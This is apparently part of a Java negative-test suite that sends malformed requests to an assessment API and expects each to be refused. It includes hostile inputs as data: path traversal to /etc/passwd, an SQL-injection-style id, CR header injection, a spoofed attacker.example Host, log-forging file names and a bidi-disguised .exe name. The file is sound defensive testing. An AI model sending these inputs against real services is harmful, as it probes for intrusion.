            {"asOf=0001-01-01T00%3A00%3A00Z", "year 1, in the past"},
            {"asOf=%2B999999999-12-31T23%3A59%3A59Z", "beyond the year 9999"},
            {"asOf=2099-01-01T00%3A00%3A00Z&allowPast=maybe", "allowPast that is not a boolean"},
            {"asOf=%00", "a NUL"},
            {"asOf=" + "9".repeat(5000), "five thousand digits"},
        };
        for (String[] v : values) {
            cases.add(new Case(
                    "asOf on an assessment: " + v[1],
                    "POST",
                    ASSESSMENTS + "?" + v[0],
                    "application/json",
                    goodAssessment(),
                    List.of()));
            cases.add(new Case(
                    "asOf on a batch: " + v[1],
                    "POST",
                    BATCH + "?" + v[0],
                    "application/x-ndjson",
                    goodBatch(),
                    List.of()));
        }
    }

    /**
     * Query parameters an operation does not take, misspelt or invented, each on a request that
     * would otherwise succeed (and store): refused, never ignored.
     */
    private void unknownParameters() {
        String[][] gets = {
            {ASSESSMENTS + "?decision=DO_NOT_SHARE", "a sharing filter on assessments"},
            {ASSESSMENTS + "?organisationId=acme", "a misspelt filter"},
            {ASSESSMENTS + "?OrganizationId=acme", "a filter in the wrong case"},
            {ASSESSMENTS + "?offset=50", "offset paging"},
            {ASSESSMENTS + "?page=2&limit=10", "page paging"},
            {ASSESSMENTS + "?sort=createdAt", "a sort order"},
            {ASSESSMENTS + "?outcome=MAYBE", "an outcome that is not one"},
            {ASSESSMENTS + "?outcome=", "an empty outcome"},
            {ASSESSMENTS + "?%01=1", "a control character as a parameter name"},
            {ASSESSMENTS + "?=acme", "a parameter without a name"},
            {REVIEWS + "?productId=cam-1", "an assessment filter on reviews"},
            {REVIEWS + "?decision=MAYBE", "a decision that is not one"},
            {"/v1/rulesets?cursor=MDE5MzZkM2Y", "a cursor that no page of the ruleset history gave"},
            {"/v1/rulesets?limit=5&offset=5", "offset paging of ruleset events"},
            {"/v1/rulesets/active?revision=sha256:00", "a revision on the active ruleset"},
            {"/v1/recommendations?lang=ja", "a language as a parameter"},
            {"/v1/recommendations/PS-4.2?lang=ja", "a language on one recommendation"},
            {ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69?full=true", "a parameter on one assessment"},
            {"/v1/api-keys?all=true", "a parameter on the key list"},
            {ASSESSMENTS + "?organizationId=%85", "a value that is not UTF-8"},
            {ASSESSMENTS + "?limit=%C3%28", "a number that is not UTF-8"},
            {ASSESSMENTS + "?%C3%28=1", "a name that is not UTF-8"},
            {"/v3/api-docs?%85=1", "a name that is not UTF-8 on the contract"},
        };
        for (String[] g : gets) {
            cases.add(new Case("unknown parameter: " + g[1], "GET", g[0], null, null, List.of()));
        }
        cases.add(new Case(
                "unknown parameter on a good assessment: dryRun",
                "POST",
                ASSESSMENTS + "?dryRun=true",
                "application/json",
                goodAssessment(),
                List.of()));
        cases.add(new Case(
                "unknown parameter on a good share",
                "POST",
                REVIEWS + "?lang=ja",
                "application/json",
                goodShare(),
                List.of()));
        cases.add(new Case(
                "misspelt parameter on a good batch",
                "POST",
                BATCH + "?details=FULL",
                "application/x-ndjson",
                goodBatch(),
                List.of()));
        String candidate =
                "{\"files\":[{\"path\":\"product/extra.drl\",\"content\":\"package io.kakunin.rules.product;\"}]}";
        String[][] impact = {
            {"/v1/rulesets/impact?base=NONE", "base as a query parameter of the impact preview"},
            {"/v1/rulesets/impact?outcome=MAYBE", "an outcome that is not one on the impact preview"},
            {"/v1/rulesets/impact?createdFrom=yesterday", "a window that is not a time on the impact preview"},
            {"/v1/rulesets/impact?revision=sha256:00", "a revision that is not one on the impact preview"},
            {"/v1/rulesets/impact?organisationId=acme", "a misspelt filter on the impact preview"},
            {"/v1/rulesets/impact?limit=5", "paging on the impact preview"},
            {
                "/v1/rulesets/impact?createdFrom=2026-12-01T00:00:00Z&createdTo=2026-11-01T00:00:00Z",
                "an empty window on the impact preview"
            },
        };
        for (String[] i : impact) {
            cases.add(new Case(
                    "unknown parameter: " + i[1],
                    "POST",
                    i[0],
                    "application/json",
                    candidate.getBytes(StandardCharsets.UTF_8),
                    List.of()));
        }
        String[][] impactBodies = {
            {"{\"files\":[{\"path\":\"../../etc/passwd\",\"content\":\"x\"}]}", "a path out of the ruleset"},
            {"{\"files\":[]}", "no file"},
            {
                "{\"files\":[{\"path\":\"product/a.drl\",\"content\":\"%%%\",\"encoding\":\"BASE64\"}]}",
                "content that is not base64"
            },
            {"{\"files\":[{\"path\":\"product/a.drl\"", "a body cut short"},
            {"{\"files\":[{\"path\":\"notes.txt\",\"content\":\"x\"}]}", "a file that is not a ruleset's"},
        };
        for (String[] b : impactBodies) {
            cases.add(new Case(
                    "impact preview candidate: " + b[1],
                    "POST",
                    "/v1/rulesets/impact",
                    "application/json",
                    b[0].getBytes(StandardCharsets.UTF_8),
                    List.of()));
        }
        cases.add(new Case(
                "impact preview: both a stored revision and files",
                "POST",
                "/v1/rulesets/impact?revision=sha256:" + "0".repeat(64),
                "application/json",
                candidate.getBytes(StandardCharsets.UTF_8),
                List.of()));
        cases.add(new Case(
                "impact preview: a job that is not a UUID",
                "GET",
                "/v1/rulesets/impact/1%27%20OR%201=1",
                null,
                null,
                List.of()));
        cases.add(new Case(
                "impact preview: a parameter on a job",
                "GET",
                "/v1/rulesets/impact/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69?full=true",
                null,
                null,
                List.of()));
        cases.add(new Case(
                "impact preview: a body on a cancellation",
                "POST",
                "/v1/rulesets/impact/not-a-job/cancellation",
                "application/json",
                "{}".getBytes(StandardCharsets.UTF_8),
                List.of()));
        cases.add(new Case(
                "base as a query parameter of validation",
                "POST",
                "/v1/rulesets/validate?base=NONE",
                "application/json",
                "{\"files\":[{\"path\":\"product/extra.drl\",\"content\":\"package io.kakunin.rules.product;\"}]}"
                        .getBytes(StandardCharsets.UTF_8),
                List.of()));
        cases.add(new Case(
                "a parameter on a good key creation",
                "POST",
                "/v1/api-keys?expires=never",
                "application/json",
                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8),
                List.of()));
        cases.add(new Case(
                "a malformed form body on a key revocation",
                "DELETE",
                "/v1/api-keys/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69",
                "application/x-www-form-urlencoded",
                "a=%zz&%85=1".getBytes(StandardCharsets.ISO_8859_1),
                List.of()));
        cases.add(new Case(
                "Idempotency-Key on a good batch",
                "POST",
                BATCH,
                "application/x-ndjson",
                goodBatch(),
                List.of("Idempotency-Key", "batch-key-1")));
        cases.add(new Case(
                "Idempotency-Key on a good key creation",
                "POST",
                "/v1/api-keys",
                "application/json",
                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8),
                List.of("Idempotency-Key", "key-1")));
    }

    /** Accept headers that allow no answer of the operation, on requests that would otherwise succeed and store. */
    private void acceptHeaders() {
        for (String accept : List.of(
                "%%%",
                "application/problem+json",
                "text/html",
                "application/xml",
                "application/json;q=0",
                "application/json;q=x",
                "*/*;q=",
                "text/*")) {
            cases.add(new Case(
                    "Accept " + accept + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    "application/json",
                    goodAssessment(),
                    List.of("Accept", accept)));
        }
        for (String accept : List.of("%%%", "application/problem+json")) {
            cases.add(new Case(
                    "Accept " + accept + " on a good share",
                    "POST",
                    REVIEWS,
                    "application/json",
                    goodShare(),
                    List.of("Accept", accept)));
            cases.add(new Case(
                    "Accept " + accept + " on a good batch",
                    "POST",
                    BATCH,
                    "application/x-ndjson",
                    goodBatch(),
                    List.of("Accept", accept)));
            cases.add(new Case(
                    "Accept " + accept + " on the recommendations",
                    "GET",
                    "/v1/recommendations",
                    null,
                    null,
                    List.of("Accept", accept)));
            cases.add(new Case(
                    "Accept " + accept + " on the listing", "GET", ASSESSMENTS, null, null, List.of("Accept", accept)));
        }
        for (String coding : List.of("gzip", "br", "deflate, gzip")) {
            cases.add(new Case(
                    "Content-Encoding " + coding + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    "application/json",
                    goodAssessment(),
                    List.of("Content-Encoding", coding)));
        }
        cases.add(new Case(
                "Accept application/json on the batch",
                "POST",
                BATCH,
                "application/x-ndjson",
                goodBatch(),
                List.of("Accept", "application/json")));
    }

    // ------------------------------------------------------------------ raw bytes

    private static final String KEY = "X-API-Key: " + TestKeys.ALL;

    private void raw(String name, String method, String target, byte[] body, String... lines) {
        cases.add(new Case(name, method, target, null, body, List.of(), List.of(lines)));
    }

    /**
     * Header values holding bytes that are not text, as a client that puts UTF-8 or binary into a
     * header sends them (Tomcat reads header bytes as ISO-8859-1: the byte 0x85 is U+0085). Every
     * header the service reads, on the requests that read it, and one it does not read.
     */
    private void headerBytes() {
        String[][] values = {
            {"0x85", "ja\u0085"},
            {"UTF-8 text", "\u00e6\u0097\u00a5\u00e6\u009c\u00ac"},
            {"ESC", "\u001b[2J"},
            {"BEL", "a\u0007b"},
            {"0x9B", "\u009b31m"}
        };
        String json = "Content-Type: application/json";
        for (String[] v : values) {
            raw(
                    "Accept-Language with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    json,
                    "Accept-Language: " + v[1]);
            raw(
                    "Idempotency-Key with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    json,
                    "Idempotency-Key: " + v[1]);
            raw(
                    "Accept with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    json,
                    "Accept: application/json" + v[1]);
            raw(
                    "Content-Type with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    "Content-Type: application/json" + v[1]);
            raw(
                    "Origin with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    json,
                    "Origin: https://" + v[1]);
            raw(
                    "an unread header with " + v[0] + " on a good assessment",
                    "POST",
                    ASSESSMENTS,
                    goodAssessment(),
                    KEY,
                    json,
                    "X-Trace: " + v[1]);
            raw("X-API-Key with " + v[0], "GET", "/v1/recommendations", null, "X-API-Key: " + TestKeys.ALL + v[1]);
            raw("Authorization with " + v[0], "GET", "/v1/recommendations", null, "Authorization: Bearer " + v[1]);
        }
        String[][] reads = {
            {"GET", "/v1/recommendations"},
            {"GET", "/v1/recommendations/PS-4.2"},
            {"GET", ASSESSMENTS + "?limit=1"},
            {"GET", REVIEWS},
            {"GET", "/v1/rulesets/active"},
            {"GET", "/actuator/health"},
            {"GET", "/v3/api-docs"}
        };
        for (String[] r : reads) {
            raw(
                    "Accept-Language with 0x85 on " + r[0] + " " + r[1],
                    r[0],
                    r[1],
                    null,
                    KEY,
                    "Accept-Language: ja\u0085");
            raw("X-API-Key with 0x85 on " + r[0] + " " + r[1], r[0], r[1], null, "X-API-Key: ja\u0085");
        }
        raw(
                "Accept-Language with 0x85 on a good share",
                "POST",
                REVIEWS,
                goodShare(),
                KEY,
                json,
                "Accept-Language: ja\u0085");
        raw(
                "Idempotency-Key with 0x85 on a good share",
                "POST",
                REVIEWS,
                goodShare(),
                KEY,
                json,
                "Idempotency-Key: k\u0085");
        raw(
                "Accept-Language with 0x85 on a good batch",
                "POST",
                BATCH,
                goodBatch(),
                KEY,
                "Content-Type: application/x-ndjson",
                "Accept-Language: ja\u0085");
    }

    /** Headers that take one value, sent twice: which one counts would be a guess. */
    private void repeatedHeaders() {
        String json = "Content-Type: application/json";
        raw("X-API-Key twice, the same key", "GET", "/v1/recommendations", null, KEY, KEY);
        raw(
                "X-API-Key twice, a good key first",
                "GET",
                "/v1/recommendations",
                null,
                KEY,
                "X-API-Key: kak_not_a_key_0000000000000000000000000");
        raw(
                "X-API-Key twice, a good key second",
                "GET",
                "/v1/recommendations",
                null,
                "X-API-Key: kak_not_a_key_0000000000000000000000000",
                KEY);
        raw(
                "X-API-Key twice on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                "X-API-Key: " + TestKeys.SUBMITTER_B,
                json);
        raw(
                "Idempotency-Key twice on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Idempotency-Key: dup-a",
                "Idempotency-Key: dup-b");
        raw(
                "Idempotency-Key twice, the same, on a good share",
                "POST",
                REVIEWS,
                goodShare(),
                KEY,
                json,
                "Idempotency-Key: dup-c",
                "Idempotency-Key: dup-c");
        raw(
                "Authorization twice",
                "GET",
                "/v1/recommendations",
                null,
                "Authorization: Bearer a.b.c",
                "Authorization: Bearer d.e.f");
        raw(
                "Authorization twice with a key",
                "GET",
                "/v1/recommendations",
                null,
                KEY,
                "Authorization: Basic YTpi",
                "Authorization: Basic YTpi");
        raw("Content-Type twice on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, json);
        raw(
                "Content-Type twice, JSON and text, on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Content-Type: text/plain");
        raw(
                "Content-Length twice on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Content-Length: " + goodAssessment().length,
                "Content-Length: " + goodAssessment().length);
        raw("Host twice", "GET", "/v1/recommendations", null, KEY, "Host: localhost", "Host: attacker.example");
    }

    /**
     * What Tomcat refuses itself, before any filter: answered as a problem detail all the same
     * (no HTML page, no server name). HTTP clients refuse to send these.
     */
    private void whatOnlyASocketSends() {
        String json = "Content-Type: application/json";
        raw(
                "an Idempotency-Key of 8,000 characters on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Idempotency-Key: " + "k".repeat(8000));
        raw(
                "an Accept-Language of 9,000 characters",
                "GET",
                "/v1/recommendations",
                null,
                KEY,
                "Accept-Language: " + "a".repeat(9000));
        raw("an X-API-Key of 9,000 characters", "GET", "/v1/recommendations", null, "X-API-Key: " + "k".repeat(9000));
        raw(
                "headers of 12 KB in 200 lines",
                "GET",
                "/v1/recommendations",
                null,
                java.util.stream.Stream.concat(
                                java.util.stream.Stream.of(KEY),
                                java.util.stream.IntStream.range(0, 200)
                                        .mapToObj(i -> "X-Filler-" + i + ": " + "f".repeat(50)))
                        .toArray(String[]::new));
        raw(
                "a URL of 10,000 characters in the query",
                "GET",
                ASSESSMENTS + "?organizationId=" + "k".repeat(10_000),
                null,
                KEY);
        raw("a URL of 10,000 characters in the path", "GET", ASSESSMENTS + "/" + "k".repeat(10_000), null, KEY);
        raw("a CR in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\rX-Injected: 1");
        raw("a NUL in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\u0000en");
        raw("a NUL in the key", "GET", "/v1/recommendations", null, "X-API-Key: " + TestKeys.ALL + "\u0000");
        raw("a DEL in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\u007f");
        raw(
                "a CR in a header value of a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Idempotency-Key: a\rb");
        raw("a space before a header's colon", "GET", "/v1/recommendations", null, "X-API-Key : " + TestKeys.ALL);
        raw("a header line without a colon", "GET", "/v1/recommendations", null, KEY, "Accept-Language ja");
        raw("a header name with 0x85", "GET", "/v1/recommendations", null, KEY, "X-L\u0085ang: ja");
        raw("%00 in the path", "GET", ASSESSMENTS + "/%00", null, KEY);
        raw("%00 in a recommendation id", "GET", "/v1/recommendations/PS-4.2%00", null, KEY);
        raw("%zz in the path", "GET", ASSESSMENTS + "/%zz", null, KEY);
        raw("a raw 0x85 in the path", "GET", ASSESSMENTS + "/\u0085", null, KEY);
        raw("bytes that are not UTF-8 in the path", "GET", ASSESSMENTS + "/%C3%28", null, KEY);
        raw("a query value with a bad escape", "GET", ASSESSMENTS + "?limit=%zz", null, KEY);
        raw("a query value with a lone %", "GET", ASSESSMENTS + "?organizationId=%", null, KEY);
        raw("a bad escape in the query of the health check", "GET", "/actuator/health?a=%zz", null);
        raw("a path climbing out", "GET", "/v1/../../etc/passwd", null, KEY);
        raw("an encoded path climbing out", "GET", "/v1/recommendations/..%2F..%2Fapi-keys", null, KEY);
        raw("a request line with a method of symbols", "G(T", "/v1/recommendations", null, KEY);
        raw(
                "an Expect that cannot be met on a good assessment",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Expect: 200-ok");
        raw("a negative Content-Length", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Content-Length: -1");
        raw(
                "a Content-Length that is not a number",
                "POST",
                ASSESSMENTS,
                goodAssessment(),
                KEY,
                json,
                "Content-Length: 1e3");
        raw(
                "a chunk size that is not hex",
                "POST",
                ASSESSMENTS,
                "zz\r\n{}\r\n0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1),
                KEY,
                json,
                "Transfer-Encoding: chunked");
    }

    private void adminBodies() {
        post(
                "API key with a control character in its name",
                "/v1/api-keys",
                "{\"name\":\"ops\\u0007\",\"roles\":[\"AUDITOR\"]}");
        // Names that would read as something else in a log line or a list.
        for (Map.Entry<String, String> name : Map.of(
                        "a right-to-left override", "ops\\u202Egpj.exe",
                        "a zero-width space", "ad\\u200Bmin",
                        "a line separator", "ops\\u2028forged line",
                        "a byte order mark", "\\uFEFFops",
                        "a bidi isolate", "ops\\u2066x\\u2069",
                        "a C1 control", "ops\\u0085next",
                        "only spaces", "   ",
                        "only ideographic spaces", "\\u3000\\u3000")
                .entrySet()) {
            post(
                    "API key whose name holds " + name.getKey(),
                    "/v1/api-keys",
                    "{\"name\":\"" + name.getValue() + "\",\"roles\":[\"AUDITOR\"]}");
        }
        post("API key without roles", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[]}");
        post("API key with an unknown role", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[\"ROOT\"]}");
        post(
                "API key with an injected name",
                "/v1/api-keys",
                "{\"name\":\"" + "n".repeat(201) + "\",\"roles\":[\"AUDITOR\"]}");
        // A key grants only roles it holds: an ADMIN-only key minting a key with more is a 403.
        String admin = "X-API-Key: " + TestKeys.ADMIN;
        String json = "Content-Type: application/json";
        raw(
                "an ADMIN-only key minting a key with every role",
                "POST",
                "/v1/api-keys",
                "{\"name\":\"ops\",\"roles\":[\"SUBMITTER\",\"AUDITOR\",\"RULE_ADMIN\",\"ADMIN\"]}"
                        .getBytes(StandardCharsets.UTF_8),
                admin,
                json);
        raw(
                "an ADMIN-only key minting a RULE_ADMIN key",
                "POST",
                "/v1/api-keys",
                "{\"name\":\"rules\",\"roles\":[\"RULE_ADMIN\"]}".getBytes(StandardCharsets.UTF_8),
                admin,
                json);
        post(
                "validation of a path escaping the ruleset",
                "/v1/rulesets/validate",
                "{\"files\":[{\"path\":\"../../etc/passwd.drl\",\"content\":\"x\"}]}");
        post(
                "validation of an absolute path",
                "/v1/rulesets/validate",
                "{\"files\":[{\"path\":\"/etc/cron.d/x.drl\",\"content\":\"x\"}]}");
        // File names of a multipart upload that would break a path or forge a log line.
        for (Map.Entry<String, String> name : Map.of(
                        "NUL", "a\u0000.drl", "a line feed", "a\nforged log line.drl", "a carriage return", "a\r.drl")
                .entrySet()) {
            byte[] form = ("--XyZ\r\nContent-Disposition: form-data; name=\"files\"; filename=\"" + name.getValue()
                            + "\"\r\nContent-Type: text/plain\r\n\r\npackage x\r\n--XyZ--\r\n")
                    .getBytes(StandardCharsets.UTF_8);
            raw(
                    "multipart validation of a file name holding " + name.getKey(),
                    "POST",
                    "/v1/rulesets/validate",
                    form,
                    KEY,
                    "Content-Type: multipart/form-data; boundary=XyZ");
            raw(
                    "multipart validation without credentials of a file name holding " + name.getKey(),
                    "POST",
                    "/v1/rulesets/validate",
                    form,
                    "Content-Type: multipart/form-data; boundary=XyZ");
        }
        // Bodies that are not well-formed UTF-8: decoded, they would read as something else.
        for (Map.Entry<String, byte[]> bad : io.kakunin.service.web.StrictUtf8Tests.MALFORMED.entrySet()) {
            java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
            body.writeBytes("{\"organization\":{\"id\":\"acme".getBytes(StandardCharsets.UTF_8));
            body.writeBytes(bad.getValue());
            body.writeBytes("secret\"},\"products\":[]}".getBytes(StandardCharsets.UTF_8));
            raw(
                    "an assessment whose body holds " + bad.getKey(),
                    "POST",
                    ASSESSMENTS,
                    body.toByteArray(),
                    KEY,
                    "Content-Type: application/json");
        }
        // The error page asked for directly, without credentials.
        raw("GET /error without credentials", "GET", "/error", null);
        post(
                "validation of bad base64",
                "/v1/rulesets/validate",
                "{\"files\":[{\"path\":\"a.drl\",\"content\":\"%%%\",\"encoding\":\"BASE64\"}]}");
    }

    // ------------------------------------------------------------------ many faults in one body

    /**
     * Bodies with many faults, each of which the reader steps over to name the next (issue 15,
     * finding 7): every one is still refused whole, in whatever language is asked, and stores
     * nothing; past a hundred faults reading stops.
     */
    private void manyFaults() {
        String fiveFaults = "{\"assessmentDate\":\"2026-02-30\",\"organization\":{\"id\":\"acme corp\","
                + "\"monitoringIntervalDays\":\"30\",\"nmae\":\"Acme\"},"
                + "\"products\":[{\"defaultPasswordPolicy\":\"SHARED \"}]}";
        for (String language : List.of("en", "ja", "zh-TW", "zh-CN", "de;q=0.5, *")) {
            post(
                    "five faults in one assessment, Accept-Language " + language,
                    ASSESSMENTS,
                    fiveFaults,
                    "Accept-Language",
                    language);
        }
        StringBuilder many = new StringBuilder("{\"organization\":{},\"products\":[");
        for (int i = 0; i < 200; i++) {
            many.append(i == 0 ? "" : ",").append("{\"defaultPasswordPolicy\":\"NOPE\",\"x\":1}");
        }
        post(
                "four hundred faults in one assessment",
                ASSESSMENTS,
                many.append("]}").toString());
        post(
                "faults in every product, then a truncated body",
                ASSESSMENTS,
                "{\"organization\":{\"nmae\":1},\"products\":[{\"defaultPasswordPolicy\":\"NOPE\"},{\"defaultPasswordPolicy\":");
        post(
                "a fault, then a syntax error",
                ASSESSMENTS,
                "{\"organization\":{\"monitoringIntervalDays\":\"30\"},\"products\":[{\"defaultPasswordPolicy\":SHARED}]}");
        post(
                "faults of every kind in a share",
                REVIEWS,
                "{\"reviewDate\":\"2026-02-30\",\"sharer\":{\"name\":\"s\",\"type\":\"SOC_MSSP_OPERATOR \"},"
                        + "\"recipients\":[{\"name\":\"r\",\"type\":\"NONPROFIT_CSIRT\",\"nmae\":\"x\"}],"
                        + "\"samplesReviewedForEmbeddedData\":\"yes\",\"incidentDetectedAt\":\"2026-13-01T00:00:00Z\","
                        + "\"items\":[{\"category\":\"C2_DESTINATION \",\"value\":7}]}",
                "Accept-Language",
                "ja");
        post(
                "faults of a victim profile among others",
                REVIEWS,
                "{\"sharer\":{\"name\":\"s\",\"type\":\"SOC_MSSP_OPERATOR\"},"
                        + "\"recipients\":[{\"name\":\"r\",\"type\":\"NONPROFIT_CSIRT\"}],"
                        + "\"items\":[{\"category\":\"C2_DESTINATION\",\"value\":\"203.0.113.45\"}],"
                        + "\"victimProfile\":{\"names\":7,\"SecretVictimToken\":1,\"domains\":[\"a\",\"a\"]}}");
        post(
                "faults of every kind in a validation",
                "/v1/rulesets/validate",
                "{\"files\":[{\"path\":\"a.drl\",\"content\":7,\"encoding\":\"BASE64 \"}],\"base\":\"ALL\",\"extra\":1}",
                "Accept-Language",
                "zh-TW");
        post(
                "faults of every kind in an API key",
                "/v1/api-keys",
                "{\"name\":\"ops\\u0007\",\"roles\":[\"ROOT\",\"AUDITOR\",\"GOD\",\"AUDITOR\"],\"extra\":1}");
        post(
                "an API key naming a role twice",
                "/v1/api-keys",
                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\",\"AUDITOR\"]}");
        post(
                "a number JSON can write but no port can hold",
                ASSESSMENTS,
                "{\"organization\":{},\"products\":[{\"networkServices\":[{\"port\":1e309},{\"port\":-1e400}]}]}");
        post(
                "objects and arrays where values must be, throughout",
                ASSESSMENTS,
                "{\"assessmentDate\":[2026,2,1],\"organization\":{\"name\":{\"a\":[1,{\"b\":[]}]},\"id\":[\"x\"]},"
                        + "\"products\":[{\"networkServices\":{\"port\":22},\"defaultPasswordPolicy\":[\"SHARED\"]}]}");
    }
}
